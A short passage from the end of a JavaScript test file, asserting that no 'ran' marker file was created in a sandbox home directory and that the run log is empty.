    assert.equal(fs.existsSync(path.join(box.home, "ran")), false);
    assert.deepEqual(box.log.runs(), []);
  });
});
